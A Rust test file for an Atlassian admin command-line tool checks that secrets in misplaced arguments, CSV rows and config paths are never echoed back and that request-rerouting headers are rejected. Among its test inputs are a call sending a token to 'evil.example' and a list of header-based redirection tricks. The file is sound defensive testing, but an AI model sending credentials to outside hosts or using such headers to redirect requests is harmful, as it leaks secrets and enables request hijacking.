//! What stands in the wrong place of a command line may be a secret: no part of it is repeated.

use atlctl_sim::SimConfig;

use crate::common::{Env, Place};

const LONG: &str = "Sup3rS3cretPassw0rdXYZ1";

/// The whole of it, or eight characters in a row.
fn repeats(text: &str, secret: &str) -> bool {
    let pieces: Vec<char> = secret.chars().collect();
    pieces
        .windows(secret.len().min(8))
        .any(|piece| text.contains(&piece.iter().collect::<String>()))
}

#[test]
fn a_sign_in_repeats_nothing_that_it_does_not_take() {
    let env = Env::new();
    for secret in ["hunter2", "two words", LONG] {
        for option in ["--store", "--key-ends", "--output"] {
            let output = env.run(&["auth", "login", option, secret]);
            assert_eq!(output.code, 2, "{output}");
            assert!(!repeats(&output.to_string(), secret), "{output}");
            let output = env.run(&["auth", "login", &format!("{option}={secret}")]);
            assert!(!repeats(&output.to_string(), secret), "{output}");
        }
        for option in ["--api-key-stdin", "--token-stdin", "--prompt"] {
            for args in [
                vec!["auth", "login", &format!("{option}={secret}")],
                vec!["auth", "login", option, secret],
            ] {
                let output = env.run(&args);
                assert_eq!(output.code, 2, "{output}");
                assert!(!repeats(&output.to_string(), secret), "{output}");
            }
        }
    }
    // The right values are told, and a mistyped day is.
    let output = env.run(&["auth", "login", "--store", "hunter2"]);
    for word in ["--store", "keyring", "file", "none"] {
        assert!(output.stderr.contains(word), "{output}");
    }
    let output = env.run(&[
        "auth",
        "login",
        "--api-key-stdin",
        "--key-ends",
        "2027-13-01",
    ]);
    assert!(output.stderr.contains("2027-13-01"), "{output}");
    for option in ["--browser", "--from-browser"] {
        let output = env.run(&["auth", "login", "--store", "none", option, LONG]);
        assert!(!repeats(&output.to_string(), LONG), "{output}");
    }
}

#[test]
fn no_command_repeats_what_looks_like_a_secret() {
    let place = Place::with_key(SimConfig::default());
    for args in [
        &["-o", LONG, "user", "list"][..],
        &["user", "list", LONG],
        &["auth", "logout", LONG],
        &["auth", LONG],
        &[LONG],
        &["api", LONG, "admin/v1/orgs"],
        &["api", "admin/v1/orgs", "-f", LONG],
        &["api", "admin/v1/orgs", "-H", LONG],
        &[
            "api",
            "admin/v1/orgs",
            "-H",
            &format!("Authorization {LONG}"),
        ],
        &["api", "admin/v1/orgs", "-H", &format!("Bearer {LONG}: x")],
        &[
            "api",
            &format!("https://me:{LONG}@api.atlassian.com/admin/v1/orgs"),
        ],
        &["api", &format!("https://evil.example/x?token={LONG}")],
    ] {
        let output = place.run(args);
        assert_eq!(output.code, 2, "{output}");
        assert!(!repeats(&output.to_string(), LONG), "{output}");
    }
    // What is no secret is repeated, so that the slip is found.
    let output = place.run(&["-o", "tabel", "user", "list"]);
    assert!(output.stderr.contains("tabel"), "{output}");
}

/// A session of somebody else in a list, whole, cut, and longer than what is quoted of a row.
#[test]
fn no_problem_of_a_list_repeats_a_piece_of_a_token() {
    let place = Place::synced();
    let piece = "mV4YW1wbGUuY29tIiwgImltcGVyc29uYXRpb24iOiBbXSwg".repeat(4);
    for text in [piece.clone(), format!("Authorization: Basic {piece}=")] {
        place.env.file("list.csv", format!("Email\nann@\n{text}\n"));
        for args in [
            &["user", "suspend", "--csv", "list.csv", "--dry-run"][..],
            &[
                "user",
                "suspend",
                "--inactive",
                "30d",
                "--except",
                "list.csv",
                "--dry-run",
            ],
        ] {
            let output = place.run(args);
            assert_eq!(output.code, 2, "{output}");
            assert!(!repeats(&output.to_string(), &piece), "{output}");
            let is_first = args.contains(&"--except");
            assert!(is_first || output.stderr.contains("[hidden]"), "{output}");
        }
    }
}

/// Headers that say where a request goes are the client's.
#[test]
fn no_header_leads_a_request_elsewhere() {
    let place = Place::with_key(SimConfig::default());
    for name in [
        "X-Original-URL",
        "x-rewrite-url",
        "X-Forwarded-Host",
        "X-Forwarded-Prefix",
        "Forwarded",
        "X-Http-Method-Override",
        "Host",
    ] {
        let output = place.run(&["api", "admin/v1/orgs", "-H", &format!("{name}: /x")]);
        assert_eq!(output.code, 2, "{output}");
    }
    let before = place.control().requests().len();
    let usual = "https://api.atlassian.com:443/admin/v1/orgs";
    assert_eq!(place.run(&["api", usual]).code, 0);
    assert!(place.control().requests().len() > before);
}

/// A piece of a token that something cut out of it, in a folder's name.
#[test]
fn no_path_repeats_a_piece_of_a_token() {
    let piece = "QebCA6ddKHBD8q2pCQ9M2Vt6-TB7XlkjoVuj5ovWMlfDOSznBW_-tXC37i7ggthGcuo_4h5auWwXygKaM7ZO2soyw0";
    for (name, command) in [
        ("XDG_CONFIG_HOME", "config show"),
        ("XDG_CONFIG_HOME", "doctor"),
        ("XDG_DATA_HOME", "config show"),
        ("XDG_DATA_HOME", "user list"),
        ("XDG_STATE_HOME", "run list"),
        ("ATLCTL_CONFIG_DIR", "config show"),
    ] {
        let mut env = Env::new();
        let path = env.home().join(piece).join("there");
        env.var(name, path.to_str().unwrap());
        let output = env.run(&command.split(' ').collect::<Vec<_>>());
        assert!(!repeats(&output.to_string(), piece), "{name}: {output}");
        if command == "config show" {
            assert!(output.stdout.contains("[hidden]/there"), "{output}");
        }
    }
}
